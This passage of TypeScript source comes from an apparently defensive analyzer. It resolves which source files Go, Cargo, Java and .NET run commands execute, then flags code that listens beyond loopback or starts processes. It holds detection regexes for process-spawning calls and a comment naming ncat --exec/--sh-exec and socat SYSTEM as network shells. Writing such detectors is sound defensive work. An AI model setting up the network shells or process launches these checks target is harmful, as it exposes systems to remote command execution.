    const tags: string[] = [];
    for (; i < args.length && args[i].startsWith("-"); i++) {
        const [flag, glued] = args[i].replace(/^--/, "-").split(/=(.*)/s);
        const value = glued ?? (VALUED.test(flag) ? args[++i] : undefined);
        if (OTHER_CODE.test(flag)) return "unknown";
        if (!VALUED.test(flag) && !(BOOLEAN.test(flag) || (glued !== undefined && /^-[\w-]+$/.test(flag))))
            return "unknown";
        if (flag === "-C") dir = value === undefined ? undefined : servedDirectory(value, dir);
        if (flag === "-tags") tags.push(...(value ?? "").split(/[,\s]+/));
    }
    // A file whose build constraint (go help buildconstraint: "//go:build" before the package clause) is one tag no
    // build sets (the `ignore` convention: "any other words ... are not set"; not a GOOS/GOARCH, unix, cgo, gc,
    // goX.Y, nor a -tags tag) is not built; any other constraint may hold: built.
    const built = (path: string) => {
        const tag = /^\s*\/\/go:build\s+(\w+)\s*$/m.exec((at.fileText(path) ?? "").split(/^\s*package\s/m)[0])?.[1];
        return (
            tag === undefined ||
            tags.includes(tag) ||
            /^(linux|unix|amd64|arm64|cgo|gc|gccgo|go1\.\d+|386|arm|ppc64le|s390x|riscv64|loong64)$/.test(tag)
        );
    };
    const operand = args[i];
    if (operand === undefined) return undefined;
    if (dir === undefined) return "unknown";
    // The package's imports are compiled in as well (go help packages; the Go spec, "Import declarations"): every
    // package of the written module the program may import, that is every .go file user data wrote under the
    // directory of the nearest go.mod (but tests); a module with replace directives or a go.work (other modules' code
    // built in) is unknown.
    const moduleSources = (from: string): RunnerSources => {
        for (let d = from; ; d = posix.dirname(d)) {
            if (at.written.includes(posix.join(d, "go.work"))) return "unknown";
            const mod = posix.join(d, "go.mod");
            if (at.written.includes(mod)) {
                if (/^\s*replace\b/m.test(at.fileText(mod) ?? "") || at.changedIn(d)) return "unknown";
                return writtenSources(at, d, /\.go$/, true).filter(path => !path.endsWith("_test.go") && built(path));
            }
            if (d === "/") return [];
        }
    };
    const withModule = (files: string[], from: string): RunnerSources => {
        const more = moduleSources(from);
        return more === "unknown" ? more : [...new Set([...files, ...more])];
    };
    if (operand.endsWith(".go")) {
        const files = args.slice(i).filter((w, j, all) => all.slice(0, j + 1).every(v => v.endsWith(".go")));
        const paths = files.map(f => posix.resolve(dir, f));
        return withModule(paths, posix.dirname(paths[0]));
    }
    if (operand.includes("...") || operand.includes("@")) return "unknown";
    const inModule = at.written
        .filter(path => posix.basename(path) === "go.mod")
        .flatMap(path => {
            const module = /^\s*module\s+"?([^\s"]+)/m.exec(at.fileText(path) ?? "")?.[1];
            return module !== undefined && (operand === module || operand.startsWith(`${module}/`))
                ? [posix.join(posix.dirname(path), operand.slice(module.length))]
                : [];
        });
    const pkg = /^\.{1,2}(\/|$)|^\//.test(operand) ? posix.resolve(dir, operand) : inModule[0];
    if (pkg === undefined || at.changedIn(pkg)) return "unknown";
    return withModule(
        writtenSources(at, pkg, /\.go$/).filter(path => !path.endsWith("_test.go") && built(path)),
        pkg,
    );
}
/**
 * `cargo run [options] [-- args]` (Cargo book "cargo run": --manifest-path PATH, "By default, Cargo searches for the
 * Cargo.toml file in the current directory or any parent directory"; --bin NAME, --example NAME; "Package Layout":
 * src/main.rs, src/bin/NAME.rs or src/bin/NAME/main.rs, examples/NAME.rs; "Cargo Targets": a [[bin]]'s `path`, the
 * manifest's `default-run`): the target's file and every module user data wrote under src/ beside it (not another
 * binary's). -p/--package, a workspace manifest, an unknown flag or working directory: "unknown".
 */
function cargoRunSources(args: readonly string[], at: SourceLookup): RunnerSources | undefined {
    if (args[0] !== "run") return undefined;
    const own = args.includes("--") ? args.slice(1, args.indexOf("--")) : args.slice(1);
    const VALUED =
        /^(--manifest-path|--bin|--example|-p|--package|-F|--features|--target|--target-dir|--profile|-j|--jobs|--config|-Z|--color|--message-format|--lockfile-path)$/;
    const BOOLEAN =
        /^(-r|--release|--all-features|--no-default-features|--frozen|--locked|--offline|-q|--quiet|-v+|--verbose|--ignore-rust-version|--timings|--keep-going)$/;
    const options = new Map<string, string>();
    for (let i = 0; i < own.length; i++) {
        const [flag, glued] = own[i].split(/=(.*)/s);
        // The first operand starts the binary's own arguments ("cargo run [options] [-- args]", `[ARGS]...`).
        if (!flag.startsWith("-")) break;
        // --config KEY=VALUE or PATH (Cargo book "Configuration", "Command-line overrides") and -Z may set
        // target.<triple>.runner ("executables ... will be executed by invoking the specified runner ... This applies
        // to cargo run"), a rustc wrapper or a linker: programs the pack does not read.
        if (/^(--config|-Z)$/.test(flag)) return "unknown";
        if (VALUED.test(flag)) options.set(flag, glued ?? own[++i] ?? "");
        else if (!BOOLEAN.test(flag)) return "unknown";
    }
    if (cargoConfigured(at)) return "unknown";
    const given = options.get("--manifest-path");
    let manifest = given === undefined ? undefined : servedDirectory(given, at.cwd);
    // The nearest Cargo.toml user data wrote at or above the working directory, else the working directory's.
    for (let d = at.cwd; given === undefined && d !== undefined; d = d === "/" ? undefined : posix.dirname(d))
        if (at.written.includes(posix.join(d, "Cargo.toml"))) {
            manifest = posix.join(d, "Cargo.toml");
            break;
        }
    if (given === undefined && manifest === undefined && at.cwd !== undefined)
        manifest = posix.join(at.cwd, "Cargo.toml");
    if (manifest === undefined) return "unknown";
    const root = posix.dirname(manifest);
    if (at.changedIn(root)) return "unknown";
    const toml = at.fileText(manifest) ?? "";
    // A workspace (Cargo book "Workspaces"): `-p NAME` runs the member whose [package] name is NAME, its manifest
    // found through `[workspace] members` (paths or globs, beside the root manifest); the member is then read as a
    // single package. Anything else (no -p, a member the pack cannot find) is unknown.
    const selected = options.get("-p") ?? options.get("--package");
    // A root package (Cargo book "Workspaces", "Root package": [workspace] beside [package]): with no default-members
    // ("commands in the root run the root package") or -p naming it, it is read as a single package.
    const rootPackage =
        /^\s*\[package\]/m.test(toml) &&
        !/^\s*default-members\s*=/m.test(toml) &&
        (selected === undefined || selected === /^\s*name\s*=\s*"([^"]*)"/m.exec(toml)?.[1]);
    if (/^\s*\[workspace\]/m.test(toml) && !rootPackage) {
        const members = /^\s*members\s*=\s*\[([^\]]*)\]/m.exec(toml)?.[1];
        if (selected === undefined || members === undefined || given !== undefined) return "unknown";
        const globs = [...members.matchAll(/"([^"]*)"/g)].map(
            m =>
                new RegExp(
                    `^${posix
                        .join(root, m[1])
                        .replace(/[.+^${}()|\\]/g, "\\$&")
                        .replace(/\*/g, "[^/]*")
                        .replace(/\?/g, "[^/]")}/Cargo\\.toml$`,
                ),
        );
        const member = at.written.find(
            path =>
                globs.some(g => g.test(path)) &&
                /^\s*name\s*=\s*"([^"]*)"/m.exec(at.fileText(path) ?? "")?.[1] === selected,
        );
        if (member === undefined) return "unknown";
        const rest = own.filter(
            (w, i) => !/^(-p|--package)(=|$)/.test(w) && !/^(-p|--package)$/.test(own[i - 1] ?? ""),
        );
        return cargoRunSources(["run", "--manifest-path", member, ...rest], at);
    }
    if (selected !== undefined && selected !== /^\s*name\s*=\s*"([^"]*)"/m.exec(toml)?.[1]) return "unknown";
    const code = cargoPackageCode(root, toml, at, new Set([root]));
    if (code === "unknown") return code;
    // Each [[bin]]'s name and path (Cargo Targets); default-run names the binary `cargo run` runs.
    const bins = [...toml.matchAll(/^\s*\[\[bin\]\]([\s\S]*?)(?=^\s*\[|(?![\s\S]))/gm)].map(b => ({
        name: /^\s*name\s*=\s*"([^"]*)"/m.exec(b[1])?.[1],
        path: /^\s*path\s*=\s*"([^"]*)"/m.exec(b[1])?.[1],
    }));
    const packageName = /^\s*name\s*=\s*"([^"]*)"/m.exec(toml)?.[1];
    const example = options.get("--example");
    const bin = options.get("--bin") ?? /^\s*default-run\s*=\s*"([^"]*)"/m.exec(toml)?.[1];
    const targets =
        example !== undefined
            ? [`examples/${example}.rs`, `examples/${example}/main.rs`]
            : bin !== undefined
              ? [
                    ...bins.filter(b => b.name === bin && b.path !== undefined).map(b => b.path as string),
                    `src/bin/${bin}.rs`,
                    `src/bin/${bin}/main.rs`,
                    ...(bin === packageName ? ["src/main.rs"] : []),
                ]
              : [
                    "src/main.rs",
                    ...bins.flatMap(b => (b.path !== undefined ? [b.path] : [])),
                    // With no src/main.rs, `cargo run` runs the package's only binary: src/bin's.
                    ...(at.written.includes(posix.join(root, "src/main.rs"))
                        ? []
                        : writtenSources(at, posix.join(root, "src/bin"), /\.rs$/, true)),
                ];
    const files = targets.map(t => posix.resolve(root, t));
    const modules = files.flatMap(file =>
        posix.basename(file) === "main.rs" && posix.dirname(file) !== posix.join(root, "src")
            ? writtenSources(at, posix.dirname(file), /\.rs$/, true)
            : [],
    );
    return [
        ...new Set([
            ...files,
            ...modules,
            ...writtenSources(at, posix.join(root, "src"), /\.rs$/, true, /^bin\//),
            ...code,
        ]),
    ];
}
/**
 * Whether cargo's configuration may run programs the pack does not read (Cargo book "Configuration": files
 * .cargo/config.toml or .cargo/config in the working directory and every parent, and $CARGO_HOME/config.toml, root's
 * /root/.cargo; environment variables CARGO_*, RUSTC, RUSTC_WRAPPER and RUSTFLAGS set any key): target.<triple>.runner, linker,
 * build.rustc/rustc-wrapper/rustc-workspace-wrapper, rustflags (`-C linker=`), [env] (the build scripts' environment),
 * include; a configuration file user data changed in a way the pack cannot compute may say anything.
 */
function cargoConfigured(at: SourceLookup): boolean {
    const variables = [...at.environment.keys()].filter(
        v =>
            /^(CARGO_|RUST)/.test(v) &&
            !/^CARGO_(TARGET_DIR|TERM_\w+|NET_\w+|HTTP_\w+|INCREMENTAL|REGISTRIES_\w+)$/.test(v),
    );
    if (variables.length > 0) return true;
    const dirs: string[] = ["/root"];
    for (let d = at.cwd; d !== undefined; d = d === "/" ? undefined : posix.dirname(d)) dirs.push(d);
    return dirs.some(d =>
        ["config.toml", "config"].some(name => {
            const path = posix.join(d, ".cargo", name);
            if (at.changedFile(path)) return true;
            return /\b(runner|rustc[\w-]*|linker|rustflags|rustdocflags|include)\b|^\s*\[env\]/m.test(
                at.fileText(path) ?? "",
            );
        }),
    );
}
/**
 * The code cargo builds and runs for a package besides its targets' sources (`root` its directory, `toml` its
 * manifest): the build script (Cargo book "Build Scripts": "Placing a file named build.rs in the root of a package
 * will cause Cargo to compile that script and execute it just before building the package"; `package.build = PATH`,
 * `false` none), one user data did not write at its given path being unknown, its listening and the processes it
 * starts judged as the sources' (SPAWN_API); and each path dependency ("Specifying Dependencies": `path = "..."` in a
 * [dependencies], [build-dependencies], [dev-dependencies], target-specific or [workspace.dependencies] table) that is
 * a package user data wrote: its src/ and its own code, recursively. Any other `path` (a [lib]'s, a [patch]'s), a path
 * dependency user data did not write or changed: "unknown".
 */
function cargoPackageCode(root: string, toml: string, at: SourceLookup, seen: Set<string>): RunnerSources {
    const build = /^\s*build\s*=\s*(false|"([^"]*)")/m.exec(toml);
    const script = build?.[1] === "false" ? undefined : posix.resolve(root, build?.[2] ?? "build.rs");
    if (script !== undefined && build?.[2] !== undefined && !at.written.includes(script)) return "unknown";
    const code = script !== undefined && at.fileText(script) !== undefined ? [script] : [];
    const DEPENDENCIES = /^(workspace\.|target\.[^\]]*\.)?(dev-|build-)?dependencies(\.[\w-]+)?$/;
    let table = "";
    for (const line of toml.split("\n")) {
        const header = /^\s*\[\[?\s*([^\]]*?)\s*\]\]?\s*(#.*)?$/.exec(line);
        if (header) {
            table = header[1];
            continue;
        }
        const path = /^[^#]*\bpath\s*=\s*"([^"]*)"/.exec(line)?.[1];
        if (path === undefined && /^[^#]*\bpath\s*=/.test(line)) return "unknown";
        if (path === undefined || (table === "bin" && /^\s*path\s*=/.test(line))) continue;
        if (!DEPENDENCIES.test(table)) return "unknown";
        const dir = posix.resolve(root, path);
        const manifest = posix.join(dir, "Cargo.toml");
        if (seen.has(dir)) continue;
        seen.add(dir);
        const text = at.fileText(manifest);
        if (text === undefined || at.changedIn(dir) || /^\s*\[workspace\]/m.test(text)) return "unknown";
        const more = cargoPackageCode(dir, text, at, seen);
        if (more === "unknown") return more;
        code.push(...writtenSources(at, posix.join(dir, "src"), /\.rs$/, true), ...more);
    }
    return code;
}
/**
 * `java [options] FILE.java` (JEP 330, single-file source-code launch) and `java --source N FILE [args]` (the `java`
 * tool reference, "Using Source-File Mode to Launch Source-Code Programs": "If the file does not have the .java
 * extension, the --source option must be used to force source-file mode"): the source file is the first operand
 * after the options (their values skipped: -cp/--class-path, -p/--module-path, --add-modules ...); -jar, -m/--module
 * or a class name run no source.
 */
function javaSources(args: readonly string[], at: SourceLookup): RunnerSources | undefined {
    const VALUED =
        /^(-cp|-classpath|--class-path|-p|--module-path|--upgrade-module-path|--add-modules|--limit-modules|--enable-native-access|--add-reads|--add-exports|--add-opens|--patch-module|--source)$/;
    let i = 0;
    // Options, and @argfiles (the `java` tool reference, "java Command-Line Argument Files").
    for (; i < args.length && /^[-@]/.test(args[i]); i++) {
        if (/^(-jar|-m|--module)$/.test(args[i]) || args[i].startsWith("--module=")) return undefined;
        if (VALUED.test(args[i])) i++;
    }
    const operand = args[i];
    const source = args.slice(0, i).some(w => w === "--source" || w.startsWith("--source="));
    if (operand === undefined || !(source || operand.endsWith(".java"))) return undefined;
    // JEP 458 (JDK 22, "Launch Multi-File Source-Code Programs"): the launcher compiles, on demand, the other .java
    // files of the source tree, whose root "is computed from the package of the launched file" (one directory up per
    // package name component, which must match the file's directories): every one user data wrote there is a source.
    // A package the pack cannot read or that does not match: unknown.
    const file = servedDirectory(operand, at.cwd);
    if (file === undefined) return [operand];
    const text = (at.fileText(file) ?? "").replace(/\/\*[\s\S]*?\*\/|\/\/[^\n]*/g, "");
    const declared = /^\s*package\s+([\w.]+)\s*;/m.exec(text)?.[1];
    if (declared === undefined && /\bpackage\b/.test(text.split(/\b(class|interface|record|enum)\b/)[0]))
        return "unknown";
    const parts = declared?.split(".") ?? [];
    let tree = posix.dirname(file);
    for (const part of [...parts].reverse()) {
        if (posix.basename(tree) !== part) return "unknown";
        tree = posix.dirname(tree);
    }
    if (at.changedIn(tree)) return "unknown";
    return [...new Set([file, ...writtenSources(at, tree, /\.java$/, true)])];
}
/**
 * `dotnet run` (MS Learn "dotnet run": the project in --project PATH, a folder or a project file's, else the
 * working directory; dotnetRunProject): its sources (dotnetProjectSources); `dotnet run FILE.cs` (a file-based app):
 * that file. An unknown working directory: "unknown".
 */
function dotnetRunSources(args: readonly string[], at: SourceLookup): RunnerSources | undefined {
    const run = dotnetRunProject(args, at.cwd);
    if (run === undefined) return undefined;
    const file = run.runArgs.find(w => /\.cs$/i.test(w) && !w.startsWith("-"));
    if (file !== undefined) return [file];
    if (run.project === undefined) return "unknown";
    return dotnetProjectSources(run.project, at, new Set());
}
/** A .NET project file: C# (.csproj), F# (.fsproj), Visual Basic (.vbproj). */
const DOTNET_PROJECT = /\.(cs|fs|vb)proj$/i;
/**
 * The sources of the .NET project in `dir`: every C#, F# or Visual Basic file user data wrote under it but bin/ and obj/
 * (MSBuild's default Compile items, "Default includes and excludes": **\/*.cs; the F# SDK compiles its Compile items,
 * in order), Program.cs; Compile items beyond the defaults (MS Learn "Common MSBuild project items": Compile, "The
 * source files for the compiler"; "Customize your build": Directory.Build.props/.targets of the project's directory or
 * any above it are imported): each literal Include resolved from the project's directory, its wildcards (`*`, `**`)
 * matched against the files user data wrote; each ProjectReference ("a referenced project is built and its assembly
 * used") to a project file user data wrote: that project's sources, recursively. Unknown: a directory user data
 * changed, a property or an item transform in an item, an Import (another file's targets), a Target, Exec or UsingTask
 * (MS Learn "Exec task": "Runs the specified program or command"; "MSBuild targets": BeforeTargets/AfterTargets run
 * them in the build `dotnet run` does first; an inline task's code), a reference the pack cannot resolve.
 */
function dotnetProjectSources(dir: string, at: SourceLookup, seen: Set<string>): RunnerSources {
    if (at.changedIn(dir)) return "unknown";
    seen.add(dir);
    const projectFiles = at.written.filter(path => {
        const rel = posix.relative(dir, path);
        const above = rel === posix.basename(path) || /^(\.\.\/)+[^/]+$/.test(rel);
        return (
            (posix.dirname(path) === dir && DOTNET_PROJECT.test(path)) ||
            (above && /^Directory\.Build\.(props|targets)$/i.test(posix.basename(path)))
        );
    });
    const items: string[] = [];
    for (const path of projectFiles) {
        const text = at.fileText(path) ?? "";
        if (/<\s*(Import|Target|Exec|UsingTask)\b/i.test(text)) return "unknown";
        for (const m of text.matchAll(/<\s*ProjectReference\b[^>]*\bInclude\s*=\s*(["'])([^"']*)\1/gi))
            for (const ref of m[2]
                .split(";")
                .map(v => v.trim().replace(/\\/g, "/"))
                .filter(v => v !== "")) {
                const project = posix.resolve(dir, ref);
                if (/[$@%*?]/.test(ref) || !DOTNET_PROJECT.test(ref) || !at.written.includes(project)) return "unknown";
                if (seen.has(posix.dirname(project))) continue;
                const more = dotnetProjectSources(posix.dirname(project), at, seen);
                if (more === "unknown") return more;
                items.push(project, ...more);
            }
        if (
            [...text.matchAll(/<\s*ProjectReference\b/gi)].length >
            [...text.matchAll(/<\s*ProjectReference\b[^>]*\bInclude\s*=\s*["']/gi)].length
        )
            return "unknown";
        for (const m of text.matchAll(/<\s*Compile\b[^>]*\b(?:Include|Update)\s*=\s*(["'])([^"']*)\1/gi))
            for (const item of m[2]
                .split(";")
                .map(v => v.trim().replace(/\\/g, "/"))
                .filter(v => v !== "")) {
                if (/[$@%]/.test(item)) return "unknown";
                const glob = posix.resolve(dir, item);
                const re = new RegExp(
                    `^${glob
                        .replace(/[.+^${}()|[\]\\]/g, "\\$&")
                        .replace(/\*\*\/?/g, "\uE000")
                        .replace(/\*/g, "[^/]*")
                        .replace(/\?/g, "[^/]")
                        .replace(/\uE000/g, "(?:.*/)?")}$`,
                );
                items.push(...at.written.filter(w => re.test(w)));
                if (!/[*?]/.test(item)) items.push(glob);
            }
    }
    return [
        ...new Set([
            posix.join(dir, "Program.cs"),
            ...writtenSources(at, dir, /\.(cs|fs|fsx|vb)$/i, true, /^(bin|obj)\//),
            ...items,
        ]),
    ];
}
/**
 * `dotnet run [--project PATH]` (MS Learn "dotnet run"; `-p` is --property): its own options, before `--` (the app's
 * arguments after it), `--name VALUE` or `--name=VALUE`, and the project's directory (a project file's directory,
 * else PATH; the working directory without --project; undefined when unknown). Undefined when it is no `dotnet run`.
 */
function dotnetRunProject(
    args: readonly string[],
    cwd: string | undefined,
):
    | { project: string | undefined; runArgs: readonly string[]; option: (...names: string[]) => string | undefined }
    | undefined {
    if (args.find(w => !w.startsWith("-")) !== "run") return undefined;
    const runArgs = args.includes("--") ? args.slice(0, args.indexOf("--")) : args;
    const option = (...names: string[]) =>
        runArgs
            .flatMap((w, i) => {
                const glued = /^(--?[\w-]+)=(.*)$/.exec(w);
                return glued ? (names.includes(glued[1]) ? [glued[2]] : []) : names.includes(runArgs[i - 1]) ? [w] : [];
            })
            .at(-1);
    const projectPath = option("--project") ?? ".";
    const project = servedDirectory(/proj$/i.test(projectPath) ? posix.dirname(projectPath) : projectPath, cwd);
    return { project, runArgs, option };
}
/** A listen or serve API in source code of any language (Go net/http ListenAndServe, net.Listen, Java ServerSocket ...). */
const LISTEN_API =
    /\b(\w*[lL]isten\w*|[sS]erve\w*|\w+Serve\w*|bind)\s*[(!]|ServerSocket|HttpServer|HTTPServer|TcpListener|TCPServer|WEBrick|UseUrls|LocalPort|LocalAddr/;
/**
 * A process-starting API in source code of any language: Go os/exec Command ("returns the Cmd struct to execute the
 * named program"), syscall.Exec/ForkExec, os.StartProcess; Rust std::process::Command; Java ProcessBuilder and
 * Runtime.exec; C# Process.Start; POSIX system(3)/popen(3)/exec*(3)/fork(2) (through libc, cgo, nix); Ruby/Perl
 * system, exec, spawn, backticks and %x/qx.
 */
const SPAWN_API =
    /\bexec\.Command(Context)?\b|\bsyscall\.(Exec|ForkExec|StartProcess)\b|\bos\.StartProcess\b|\bCommand::new\b|\bprocess::Command\b|\bProcessBuilder\b|\.exec\s*\(|\bProcess\.(Start|spawn)\b|\bProcessStartInfo\b|(^|[^\w.:])(system|popen|execvp?e?|execlp?e?|fork|posix_spawnp?)\s*\(|\blibc::(system|popen|exec\w*|fork|posix_spawn\w*)\b|\bnix::unistd::(exec\w*|fork)\b/m;
/** Ruby's and Perl's besides: system/exec/spawn without parentheses, backticks, %x and qx. */
const SCRIPT_SPAWN_API = /(^|[^\w.:])(system|exec|spawn)\b\s*[("'%]|`|%x\W|\bqx\W|\bopen\s*\(?\s*["']?\|/m;
/**
 * The listeners of source code user data wrote and a SOURCE_RUNNERS command runs, judged as an unread program given
 * an address is (unreadListeners): each string literal that is an address beyond loopback (`":8080"`: Go net/http
 * ListenAndServe, "If the host in the address parameter is empty ... listens on all available unicast and anycast IP
 * addresses", EMPTY_HOST; `"0.0.0.0"`; a node address) makes it a program the pack does not read listening there; a
 * listen or serve API with no loopback address literal listens where the pack cannot tell (every address: fail
 * closed). A source whose every address literal is loopback is a loopback listener (held for the join). A source user
 * data did not write is judged by its command line (unreadListeners, readServers' fail-closed rule).
 */
function sourceRunnerListeners(
    args: readonly string[],
    cwd: string | undefined,
    name: string,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): Listener[] {
    const runner = SOURCE_RUNNERS.find(r => r.names.test(name));
    const server = `${name} ${args.join(" ")}`.trim();
    const at = {
        cwd,
        fileText: (path: string) => fileText?.(path),
        written: [...(view.written?.() ?? [])],
        changedIn: (dir: string) => view.changed.has(`${dir}/`),
        environment: view.environment,
        changedFile: (path: string) => view.changed.has(path),
    };
    const sources = runner?.sources(args, at) ?? [];
    // Sources the pack cannot find, or changed in a way it cannot compute (readConfig): any listener (fail closed).
    const unknown = [{ server, binds: [], serves: { unread: `${server} (its sources: unknown)` } }];
    if (sources === "unknown") return unknown;
    return sources.flatMap(source => {
        const path = servedDirectory(source, cwd);
        if (path === undefined) return unknown;
        const text = readConfig(path, fileText, view);
        if (text === null) return unknown;
        if (text === undefined) return [];
        const literals = [...text.matchAll(/"((?:\\.|[^"\\\n])*)"|'((?:\\.|[^'\\\n])*)'|`([^`]*)`/g)].map(
            m => m[1] ?? m[2] ?? m[3],
        );
        const beyond = literals.filter(
            v => allAddresses(v) || EMPTY_HOST.test(v) || (isHostPort(v) && mayBeNodeAddress(v)),
        );
        const loopback = literals.filter(v => (isAddress(v) || /^localhost(:\d+)?$/i.test(v)) && loopbackOnly([v]));
        const unread = { unread: `${server} (${path})` };
        // A source starting another program runs what the pack does not read: any listener (fail closed).
        if (SPAWN_API.test(text) || (/\.(rb|p[lm])$/.test(path) && SCRIPT_SPAWN_API.test(text)))
            return [{ server, binds: [], serves: { unread: `${server} (${path} starts a process)` } }];
        if (beyond.length > 0) return [{ server, binds: beyond, serves: unread }];
        if (!LISTEN_API.test(text)) return [];
        return [{ server, binds: loopback.length > 0 ? loopback : [], serves: unread }];
    });
}

/**
 * The programs a build command writes from sources a SOURCE_RUNNERS runner reads, each path with the listeners of
 * running it: those of the runner's `run` of the same sources (sourceRunnerListeners, read when the build reads
 * them); a path ending in `/` stands for every file under it. Undefined for any other command.
 * - `go build [-o OUT] [build flags] [PKG|FILES]` (go help build: "When compiling a single main package, build writes
 *   the resulting executable to an output file named after the last non-major-version component of the package
 *   import path ... or the first source file"; "-o forces build to write the resulting executable or object to the
 *   named output file or directory"; no package: the current directory's) and `go install` (to $GOBIN, else
 *   $GOPATH/bin, /root/go/bin for root): `go run` of the same package.
 * - `cargo build [options]` (Cargo book "cargo build", "Build cache": target/debug or target/release, target/TRIPLE/...
 *   with --target, of the workspace root; --target-dir, CARGO_TARGET_DIR): every binary under the target directories,
 *   `cargo run` of each binary of the package (src/main.rs, src/bin, [[bin]]).
 * - `dotnet build|publish [PROJECT] [-o OUT]` (MS Learn "dotnet build": output in OUT, else bin/): `dotnet run
 *   --project` of the same project, for OUT/ and the project's bin/.
 */
function builtPrograms(
    words: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Map<string, Listener[]> | undefined {
    const name = posix.basename(words[0] ?? "");
    const [sub, ...rest] = words.slice(1);
    const out = new Map<string, Listener[]>();
    const judged = (args: string[]) => sourceRunnerListeners(args, cwd, name, fileText, view);
    const resolve = (path: string | undefined) => (path === undefined ? "/" : servedDirectory(path, cwd));
    const written = [...(view.written?.() ?? [])];
    const record = (paths: (string | undefined)[], listeners: Listener[]) => {
        const server = `${words.join(" ")} (a program built from sources)`;
        for (const path of paths)
            if (path !== undefined)
                out.set(
                    path,
                    listeners.map(l => ({ ...l, server: `${server}: ${l.server}` })),
                );
    };
    if (name === "go" && (sub === "build" || sub === "install")) {
        const VALUED =
            /^-(C|o|p|exec|asmflags|buildmode|compiler|covermode|coverpkg|gccgoflags|gcflags|installsuffix|ldflags|mod|modfile|overlay|pgo|pkgdir|tags|toolexec)$/;
        let i = 0;
        let output: string | undefined;
        let dir = cwd;
        for (; i < rest.length && rest[i].startsWith("-"); i++) {
            const [flag, glued] = rest[i].replace(/^--/, "-").split(/=(.*)/s);
            const value = glued ?? (VALUED.test(flag) ? rest[++i] : undefined);
            if (flag === "-o") output = value;
            if (flag === "-C") dir = value === undefined ? undefined : servedDirectory(value, dir);
        }
        const operands = rest.slice(i);
        const listeners = judged(["run", ...rest.slice(0, i), ...(operands.length > 0 ? operands : ["."])]);
        const first = operands[0] ?? ".";
        const pkg = dir === undefined ? undefined : posix.resolve(dir, first);
        let module: string | undefined;
        for (let d = pkg; d !== undefined && !first.endsWith(".go"); d = d === "/" ? undefined : posix.dirname(d))
            if (written.includes(posix.join(d, "go.mod"))) {
                const path = /^\s*module\s+"?([^\s"]+)/m.exec(fileText?.(posix.join(d, "go.mod")) ?? "")?.[1];
                module = path === undefined ? undefined : posix.join(path, posix.relative(d, pkg as string));
                break;
            }
        const names = first.endsWith(".go")
            ? [posix.basename(first, ".go")]
            : [
                  ...(pkg === undefined ? [] : [posix.basename(pkg)]),
                  ...(module === undefined ? [] : [posix.basename(module.replace(/\/v\d+$/, ""))]),
                  ...(/^[\w.-]+(\/[\w.-]+)+$/.test(first) ? [posix.basename(first.replace(/@.*$/, ""))] : []),
              ];
        const dirs =
            sub === "install"
                ? [
                      ...(view.environment.get("GOBIN") ?? []),
                      ...(view.environment.get("GOPATH") ?? []).map(p => p && `${p}/bin`),
                      "/root/go/bin",
                  ]
                : output === undefined
                  ? [dir]
                  : [];
        record(
            [
                ...(output === undefined ? [] : [resolve(output), resolve(`${output}/`)?.replace(/\/?$/, "/")]),
                ...dirs.flatMap(d => (d === undefined ? [] : names.map(n => posix.join(d, n)))),
            ],
            listeners,
        );
        return out;
    }
    if (name === "cargo" && sub === "build") {
        const own = rest.includes("--") ? rest.slice(0, rest.indexOf("--")) : rest;
        const targetDirs = [
            ...own.flatMap((w, i) =>
                w.startsWith("--target-dir=") ? [w.slice(13)] : own[i - 1] === "--target-dir" ? [w] : [],
            ),
            ...(view.environment.get("CARGO_TARGET_DIR") ?? []),
        ];
        const manifestGiven = own.flatMap((w, i) =>
            w.startsWith("--manifest-path=") ? [w.slice(16)] : own[i - 1] === "--manifest-path" ? [w] : [],
        )[0];
        let from = manifestGiven === undefined ? cwd : resolve(posix.dirname(manifestGiven));
        const roots: string[] = [];
        for (; from !== undefined; from = from === "/" ? undefined : posix.dirname(from))
            if (written.includes(posix.join(from, "Cargo.toml")) || (from === cwd && manifestGiven === undefined))
                roots.push(from);
        const root = manifestGiven === undefined ? roots[0] : resolve(posix.dirname(manifestGiven));
        const toml = root === undefined ? "" : (fileText?.(posix.join(root, "Cargo.toml")) ?? "");
        const bins =
            root === undefined
                ? []
                : [
                      /^\s*name\s*=\s*"([^"]*)"/m.exec(toml)?.[1],
                      ...[...toml.matchAll(/^\s*\[\[bin\]\]([\s\S]*?)(?=^\s*\[|(?![\s\S]))/gm)].map(
                          b => /^\s*name\s*=\s*"([^"]*)"/m.exec(b[1])?.[1],
                      ),
                      ...written
                          .filter(f => f.startsWith(`${root}/src/bin/`) && f.endsWith(".rs"))
                          .map(f =>
                              posix.basename(f) === "main.rs"
                                  ? posix.basename(posix.dirname(f))
                                  : posix.basename(f, ".rs"),
                          ),
                  ];
        const args = ["run", ...own.filter(w => w !== "--")];
        const listeners = [...new Set(bins.filter((b): b is string => b !== undefined))].flatMap(bin =>
            judged([...args, "--bin", bin]),
        );
        record(
            [...targetDirs.map(d => resolve(d)?.replace(/\/?$/, "/")), ...roots.map(r => posix.join(r, "target/"))],
            bins.length > 0 ? listeners : judged(args),
        );
        return out;
    }
    if (name === "dotnet" && (sub === "build" || sub === "publish")) {
        const { project, output } = dotnetBuildArguments(rest);
        const listeners = judged(["run", ...(project === undefined ? [] : ["--project", project])]);
        const dir = resolve(project === undefined ? "." : /proj$/i.test(project) ? posix.dirname(project) : project);
        record(
            [
                ...(output === undefined ? [] : [resolve(output)?.replace(/\/?$/, "/")]),
                ...(dir === undefined ? [] : [posix.join(dir, "bin/")]),
            ],
            listeners,
        );
        return out;
    }
    return undefined;
}
/** The listeners of running `path` that builtPrograms recorded (the file's, and every tree's holding it). */
function builtListeners(path: string | undefined, view: ScriptView): Listener[] {
    if (path === undefined || view.built === undefined) return [];
    return [...view.built].flatMap(([built, listeners]) =>
        built === path || (built.endsWith("/") && path.startsWith(built)) ? listeners : [],
    );
}

/**
 * Servers a root command starts, by program name (busybox: only as its applet), each read into its listeners.
 * ncat/nc with --exec/-e, --sh-exec/-c (through /bin/sh -c) or --lua-exec (Ncat guide, "Command Execution": "The
 * command's standard input and output streams are redirected to use Ncat's network connection"), and --proxy-type
 * http ("Ncat can act as a proxy server itself in listen mode"); socat(1) "ADDRESS TYPES" (SYSTEM runs /bin/sh -c);
 * systemd-socket-activate(1); the rest above.
 */
const SERVERS: {
    names: RegExp;
    busybox?: boolean;
    /** It reads one mode of the program only (Flask's debugger): the fail-closed rule (unreadListeners) judges it besides. */
    partial?: true;
    read: (
        args: readonly string[],
        cwd: string | undefined,
        name: string,
